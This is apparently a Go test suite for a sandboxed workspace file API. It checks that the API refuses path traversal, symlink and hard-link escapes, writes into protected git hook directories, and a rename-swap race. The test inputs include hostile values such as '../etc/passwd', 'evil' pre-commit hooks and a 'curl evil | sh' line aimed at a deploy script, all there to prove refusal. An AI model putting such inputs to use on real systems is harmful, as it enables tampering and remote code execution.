package control

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// fsFixture is a writable workspace with a protected .git/config, and
// its file API (1 KiB files, 512-byte chunks).
func fsFixture(t *testing.T, writable bool) (string, *FS) {
	t.Helper()
	ws := t.TempDir()
	mustT(t, os.Mkdir(filepath.Join(ws, ".git"), 0o755))
	mustT(t, os.WriteFile(filepath.Join(ws, ".git", "config"), []byte("[core]\n"), 0o644))
	f, err := NewFS(FSOptions{Workspace: ws, Inside: "/workspace", Writable: writable, Protected: []string{".git"},
		MaxFileBytes: 1024, MaxChunk: 512})
	if err != nil {
		t.Fatal(err)
	}
	return ws, f
}

func mustT(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// wantKind fails unless err is a control error of kind k whose message
// holds want.
func wantKind(t *testing.T, err error, k Kind, want string) {
	t.Helper()
	if err == nil {
		t.Fatalf("no error; want kind %d %q", k, want)
	}
	if KindOf(err) != k || !strings.Contains(err.Error(), want) {
		t.Fatalf("error %q (kind %d); want kind %d holding %q", err, KindOf(err), k, want)
	}
}

func gitConfigIntact(t *testing.T, ws string) {
	t.Helper()
	if b, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); string(b) != "[core]\n" {
		t.Fatalf(".git/config is now %q", b)
	}
	if ents, _ := os.ReadDir(filepath.Join(ws, ".git")); len(ents) != 1 {
		t.Fatalf(".git holds %d entries, want only config", len(ents))
	}
}

func TestFSRoundTrip(t *testing.T) {
	ws, f := fsFixture(t, true)
	name := "dir/caf\xff\n.txt" // not UTF-8, with a newline
	mustT(t, f.Write(name, []byte("hello "), WriteMode{}))
	mustT(t, f.Write(name, []byte("world"), WriteMode{Append: true}))
	mustT(t, f.Write(name, []byte("W"), WriteMode{At: true, Offset: 6}))
	if b, _ := os.ReadFile(filepath.Join(ws, name)); string(b) != "hello World" {
		t.Fatalf("file holds %q", b)
	}
	c, err := f.Read("/workspace/"+name, 6, 3)
	mustT(t, err)
	if string(c.Data) != "Wor" || c.Size != 11 || c.EOF {
		t.Fatalf("read %+v", c)
	}
	c, err = f.Read(name, 6, 0)
	mustT(t, err)
	if string(c.Data) != "World" || !c.EOF {
		t.Fatalf("read to the end %+v", c)
	}
	ents, more, err := f.List("dir")
	mustT(t, err)
	if more || len(ents) != 1 || ents[0].Name != "caf\xff\n.txt" || ents[0].Type != "file" || ents[0].Size != 11 {
		t.Fatalf("list %+v %v", ents, more)
	}
	mustT(t, f.Rename(name, "moved/x", false))
	st, err := f.Stat("moved/x")
	mustT(t, err)
	if st.Type != "file" || st.Size != 11 || st.ModTime.IsZero() {
		t.Fatalf("stat %+v", st)
	}
	mustT(t, f.Write("moved/y", nil, WriteMode{}))
	wantKind(t, f.Rename("moved/y", "moved/x", false), KindConflict, "exists")
	mustT(t, f.Mkdir("a/b/c", true))
	wantKind(t, f.Mkdir("a/b", false), KindConflict, "exists")
	wantKind(t, f.Remove("a", false, false), KindConflict, "not empty")
	mustT(t, f.Remove("a", true, false))
	wantKind(t, f.Remove("a", false, false), KindNotFound, "no such file")
	mustT(t, f.Remove("a", false, true))
	var out bytes.Buffer
	if _, err := f.ReadTo("moved/x", &out); err != nil || out.String() != "hello World" {
		t.Fatalf("ReadTo %q %v", out.String(), err)
	}
}

// A link in the workspace pointing out is never followed, as a
// directory on the way or as the entry itself.
func TestFSLinkOut(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, os.Symlink("/etc", filepath.Join(ws, "x")))
	mustT(t, os.Symlink("/etc/passwd", filepath.Join(ws, "p")))
	_, err := f.Read("x/passwd", 0, 0)
	wantKind(t, err, KindInvalid, "symbolic link")
	_, err = f.Read("p", 0, 0)
	wantKind(t, err, KindInvalid, "symbolic link")
	_, _, err = f.List("x")
	wantKind(t, err, KindInvalid, "symbolic link")
	wantKind(t, f.Write("x/gb-evil", []byte("x"), WriteMode{}), KindInvalid, "symbolic link")
	wantKind(t, f.Write("p", []byte("x"), WriteMode{Append: true}), KindInvalid, "symbolic link")
	wantKind(t, f.Write("p", []byte("x"), WriteMode{}), KindInvalid, "symbolic link")
	st, err := f.Stat("x")
	mustT(t, err)
	if st.Type != "symlink" {
		t.Fatalf("stat of the link: %+v", st)
	}
}

func TestFSOutsidePaths(t *testing.T) {
	_, f := fsFixture(t, true)
	for _, p := range []string{"../etc/passwd", "a/../../etc/passwd", "/etc/passwd", "/workspace/../etc/passwd", ".."} {
		_, err := f.Read(p, 0, 0)
		wantKind(t, err, KindInvalid, "the workspace")
		wantKind(t, f.Write(p, []byte("x"), WriteMode{}), KindInvalid, "the workspace")
	}
}

func TestFSProtected(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, os.WriteFile(filepath.Join(ws, "a"), []byte("a"), 0o644))
	_, err := f.Read(".git/config", 0, 0)
	wantKind(t, err, KindInvalid, "protected")
	_, err = f.Read(".GIT/config", 0, 0)
	wantKind(t, err, KindInvalid, "protected")
	_, _, err = f.List(".git")
	wantKind(t, err, KindInvalid, "protected")
	for _, p := range []string{".git/config", ".git/hooks/pre-commit", "sub/.git/hooks/x", ".Git/config"} {
		wantKind(t, f.Write(p, []byte("evil"), WriteMode{}), KindInvalid, "protected")
		wantKind(t, f.Write(p, []byte("evil"), WriteMode{Append: true}), KindInvalid, "protected")
	}
	wantKind(t, f.Mkdir(".git/hooks", true), KindInvalid, "protected")
	wantKind(t, f.Rename("a", ".git/config", true), KindInvalid, "protected")
	wantKind(t, f.Rename(".git", "g", false), KindInvalid, "protected")
	wantKind(t, f.Remove(".git/config", false, false), KindInvalid, "protected")
	wantKind(t, f.Remove(".", true, false), KindInvalid, "workspace itself")
	gitConfigIntact(t, ws)
	if _, err := os.Stat(filepath.Join(ws, "sub")); err == nil {
		t.Fatal("a refused write made sub/")
	}
}

// A hard link to a protected file is neither read nor written through.
func TestFSHardLink(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, os.Link(filepath.Join(ws, ".git", "config"), filepath.Join(ws, "hl")))
	_, err := f.Read("hl", 0, 0)
	wantKind(t, err, KindInvalid, "more than one hard link")
	wantKind(t, f.Write("hl", []byte("evil"), WriteMode{Append: true}), KindInvalid, "more than one hard link")
	wantKind(t, f.Write("hl", []byte("evil"), WriteMode{At: true}), KindInvalid, "more than one hard link")
	// A whole-file write replaces the name, not the file it links to.
	mustT(t, f.Write("hl", []byte("mine"), WriteMode{}))
	if b, _ := os.ReadFile(filepath.Join(ws, "hl")); string(b) != "mine" {
		t.Fatalf("hl holds %q", b)
	}
	gitConfigIntact(t, ws)
}

func TestFSCaps(t *testing.T) {
	ws, f := fsFixture(t, true)
	wantKind(t, f.Write("big", make([]byte, 513), WriteMode{}), KindLimit, "chunk limit")
	_, err := f.WriteFrom("big", bytes.NewReader(make([]byte, 1025)))
	wantKind(t, err, KindLimit, "1024-byte file limit")
	if _, err := os.Lstat(filepath.Join(ws, "big")); err == nil {
		t.Fatal("a refused write left big behind")
	}
	if ents, _ := os.ReadDir(ws); len(ents) != 1 {
		t.Fatalf("the workspace holds %d entries (a temporary file left?), want .git only", len(ents))
	}
	mustT(t, f.Write("big", make([]byte, 512), WriteMode{}))
	mustT(t, f.Write("big", make([]byte, 512), WriteMode{Append: true}))
	wantKind(t, f.Write("big", []byte("x"), WriteMode{Append: true}), KindLimit, "file limit")
	wantKind(t, f.Write("big", []byte("x"), WriteMode{At: true, Offset: 1 << 40}), KindLimit, "file limit")
	c, err := f.Read("big", 0, 4096)
	mustT(t, err)
	if len(c.Data) != 512 || c.EOF {
		t.Fatalf("a read over the chunk cap gave %d bytes, eof %v", len(c.Data), c.EOF)
	}
	mustT(t, os.WriteFile(filepath.Join(ws, "huge"), make([]byte, 2048), 0o644))
	_, err = f.ReadTo("huge", &bytes.Buffer{})
	wantKind(t, err, KindLimit, "file limit")
}

// A FIFO (or a device) is refused at once, never opened for real.
func TestFSSpecialFiles(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, unix.Mkfifo(filepath.Join(ws, "fifo"), 0o644))
	_, err := f.Read("fifo", 0, 0)
	wantKind(t, err, KindInvalid, "not a regular file")
	wantKind(t, f.Write("fifo", []byte("x"), WriteMode{Append: true}), KindInvalid, "not a regular file")
	wantKind(t, f.Write("fifo", []byte("x"), WriteMode{}), KindInvalid, "not a regular file")
	if os.Geteuid() == 0 {
		mustT(t, unix.Mknod(filepath.Join(ws, "null"), unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))))
		_, err := f.Read("null", 0, 0)
		wantKind(t, err, KindInvalid, "not a regular file")
	}
}

func TestFSReadOnly(t *testing.T) {
	ws, f := fsFixture(t, false)
	mustT(t, os.WriteFile(filepath.Join(ws, "a"), []byte("a"), 0o644))
	wantKind(t, f.Write("a", []byte("x"), WriteMode{}), KindInvalid, "read-only")
	wantKind(t, f.Mkdir("d", false), KindInvalid, "read-only")
	wantKind(t, f.Remove("a", false, false), KindInvalid, "read-only")
	wantKind(t, f.Rename("a", "b", false), KindInvalid, "read-only")
	if c, err := f.Read("a", 0, 0); err != nil || string(c.Data) != "a" {
		t.Fatalf("read %v %v", c, err)
	}
}

// The sandbox swaps a directory the walk checked for a link to .git
// (renameat2 RENAME_EXCHANGE) before it is opened: the walk opens no
// link, so neither a write nor a read reaches .git.
func TestFSRenameSwapRace(t *testing.T) {
	for _, op := range []string{"write", "read"} {
		t.Run(op, func(t *testing.T) {
			ws, f := fsFixture(t, true)
			mustT(t, os.Mkdir(filepath.Join(ws, "sub"), 0o755))
			mustT(t, os.WriteFile(filepath.Join(ws, "sub", "config"), []byte("sub's"), 0o644))
			mustT(t, os.Symlink(".git", filepath.Join(ws, "lnk")))
			swapped := false
			testHookAfterCheck = func(rel string) {
				if rel != "sub" || swapped {
					return
				}
				err := unix.Renameat2(unix.AT_FDCWD, filepath.Join(ws, "sub"), unix.AT_FDCWD, filepath.Join(ws, "lnk"), unix.RENAME_EXCHANGE)
				if errors.Is(err, unix.EINVAL) || errors.Is(err, unix.ENOSYS) {
					t.Skipf("renameat2(RENAME_EXCHANGE) unsupported here: %v", err)
				}
				mustT(t, err)
				swapped = true
			}
			defer func() { testHookAfterCheck = nil }()
			var err error
			var got []byte
			if op == "write" {
				err = f.Write("sub/config", []byte("evil"), WriteMode{})
			} else {
				var c *Chunk
				if c, err = f.Read("sub/config", 0, 0); c != nil {
					got = c.Data
				}
			}
			if !swapped {
				t.Fatal("the hook never saw sub: the test did not attack")
			}
			gitConfigIntact(t, ws)
			if bytes.Contains(got, []byte("[core]")) {
				t.Fatalf("the read returned .git/config: %q", got)
			}
			wantKind(t, err, KindInvalid, "symbolic link")
		})
	}
}

// Non-UTF-8 names pass through unchanged (the protocol carries them in
// base64 siblings); a NUL is refused.
func TestFSNames(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, f.Mkdir("\xfe\xff", false))
	if _, err := os.Stat(filepath.Join(ws, "\xfe\xff")); err != nil {
		t.Fatal(err)
	}
	wantKind(t, f.Write("a\x00b", nil, WriteMode{}), KindInvalid, "NUL")
}

// The workspace replaced by another directory after the FS was made is
// refused.
func TestFSWorkspaceReplaced(t *testing.T) {
	ws, f := fsFixture(t, true)
	mustT(t, os.Rename(ws, ws+".old"))
	mustT(t, os.Mkdir(ws, 0o755))
	t.Cleanup(func() { os.RemoveAll(ws + ".old") })
	_, err := f.Read("x", 0, 0)
	wantKind(t, err, KindInvalid, "was replaced")
}

// A protected entry of more than one component (tools/hooks) cannot be
// planted by renaming a directory the client filled onto its parent, nor
// moved away by renaming its parent.
func TestFSRenameOntoProtectedParent(t *testing.T) {
	ws := t.TempDir()
	mustT(t, os.MkdirAll(filepath.Join(ws, "tools", "hooks"), 0o755))
	f, err := NewFS(FSOptions{Workspace: ws, Writable: true, Protected: []string{".git", "tools/hooks"}})
	mustT(t, err)
	wantKind(t, f.Write("tools/hooks/pre-commit", []byte("evil"), WriteMode{}), KindInvalid, "protected")
	mustT(t, f.Write("x/hooks/pre-commit", []byte("evil"), WriteMode{}))
	wantKind(t, f.Rename("tools", "old", false), KindInvalid, "protected")
	wantKind(t, f.Rename("x", "tools", true), KindInvalid, "protected")
	wantKind(t, f.Rename("x", "TOOLS", false), KindInvalid, "protected")
	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks", "pre-commit")); err == nil {
		t.Fatal("tools/hooks/pre-commit was planted by a rename")
	}
	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks")); err != nil {
		t.Fatalf("tools/hooks was moved away: %v", err)
	}
}

// An offset near the largest int64 does not overflow past the file cap.
func TestFSWriteOffsetOverflow(t *testing.T) {
	_, f := fsFixture(t, true)
	err := f.Write("big", []byte("0123456789"), WriteMode{At: true, Offset: 1<<63 - 5})
	wantKind(t, err, KindLimit, "file limit")
}

// Removing the parent of a protected entry of more than one component
// (tools of tools/hooks) would remove the entry too, and, for a docker
// sandbox running on the workspace, detach the read-only mount that keeps
// the sandbox from writing a hook there: refused.
func TestFSRemoveProtectedParent(t *testing.T) {
	ws := t.TempDir()
	mustT(t, os.MkdirAll(filepath.Join(ws, "tools", "hooks"), 0o755))
	mustT(t, os.WriteFile(filepath.Join(ws, "tools", "hooks", "post-checkout"), []byte("ok"), 0o755))
	f, err := NewFS(FSOptions{Workspace: ws, Writable: true, Protected: []string{"tools/hooks"}})
	mustT(t, err)
	for _, p := range []string{"tools", "Tools", "tools/../tools"} {
		wantKind(t, f.Remove(p, true, false), KindInvalid, "protected")
	}
	if _, err := os.Stat(filepath.Join(ws, "tools", "hooks", "post-checkout")); err != nil {
		t.Fatalf("the protected hook is gone: %v", err)
	}
	mustT(t, f.Write("tools/other", []byte("x"), WriteMode{}))
	mustT(t, f.Remove("tools/other", false, false))
}

// As root, the file API acts as the workspace's owner, whom sandboxed
// commands run as: a root-only file in the workspace is not read, a
// root-owned directory in it is not written, renamed or removed from
// (it was, with root's privileges), and what it makes is the owner's.
func TestFSActsAsWorkspaceOwner(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: the file API changes its identity only as root")
	}
	const uid, gid = 4242, 4243
	top := t.TempDir()
	mustT(t, os.Chmod(top, 0o755))
	ws := filepath.Join(top, "ws")
	mustT(t, os.Mkdir(ws, 0o755))
	mustT(t, os.WriteFile(filepath.Join(ws, "secret"), []byte("root only"), 0o600))
	mustT(t, os.Mkdir(filepath.Join(ws, "ci"), 0o755))
	mustT(t, os.WriteFile(filepath.Join(ws, "ci", "deploy.sh"), []byte("echo deploy\n"), 0o644))
	mustT(t, os.Chown(ws, uid, gid))
	f, err := NewFS(FSOptions{Workspace: ws, Writable: true})
	mustT(t, err)

	if c, err := f.Read("secret", 0, 0); err == nil {
		t.Fatalf("read a root-only file: %q", c.Data)
	} else {
		wantKind(t, err, KindInvalid, "permission denied")
	}
	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{}), KindInvalid, "permission denied")
	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{Append: true}), KindInvalid, "permission denied")
	wantKind(t, f.Rename("ci/deploy.sh", "moved", false), KindInvalid, "permission denied")
	wantKind(t, f.Remove("ci/deploy.sh", false, false), KindInvalid, "permission denied")
	wantKind(t, f.Remove("ci", true, false), KindInvalid, "permission denied")
	if b, _ := os.ReadFile(filepath.Join(ws, "ci", "deploy.sh")); string(b) != "echo deploy\n" {
		t.Fatalf("ci/deploy.sh is now %q", b)
	}
	// What the owner may do works, and is the owner's.
	mustT(t, f.Write("sub/new.txt", []byte("hi"), WriteMode{}))
	mustT(t, f.Write("sub/new.txt", []byte("!"), WriteMode{Append: true}))
	c, err := f.Read("sub/new.txt", 0, 0)
	mustT(t, err)
	if string(c.Data) != "hi!" {
		t.Fatalf("read back %q", c.Data)
	}
	for _, p := range []string{"sub", "sub/new.txt"} {
		var st unix.Stat_t
		mustT(t, unix.Lstat(filepath.Join(ws, p), &st))
		if st.Uid != uid || st.Gid != gid {
			t.Errorf("%s belongs to %d:%d, want the owner %d:%d", p, st.Uid, st.Gid, uid, gid)
		}
	}
	mustT(t, f.Rename("sub/new.txt", "sub/renamed.txt", false))
	mustT(t, f.Remove("sub", true, false))
	// This process is still root.
	if _, err := os.ReadFile(filepath.Join(ws, "secret")); err != nil {
		t.Fatalf("root can no longer read: %v", err)
	}
}
